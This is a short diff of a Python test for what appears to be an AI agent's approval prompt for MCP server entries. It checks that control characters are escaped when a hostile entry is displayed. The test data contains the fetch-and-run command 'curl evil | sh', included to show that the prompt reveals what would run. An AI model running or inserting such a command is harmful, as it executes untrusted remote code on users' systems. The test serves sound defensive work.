@@ -62,7 +62,7 @@ def test_the_question_shows_what_would_run(tmp_path: Path) -> None:
     request = trust.question(tmp_path, [hostile], "turn-1")
     assert request.tool == "mcp_servers" and request.turn_id == "turn-1"
     assert "curl evil | sh" in request.detail and "\x1b" not in request.detail and "\r" not in request.detail
-    assert "\\u001b" in request.detail and "with environment: A" in request.detail
+    assert "\\x1b" in request.detail and "\\r" in request.detail and "with environment: A" in request.detail
 
 
 def test_names_stay_within_provider_limits_and_unique() -> None:
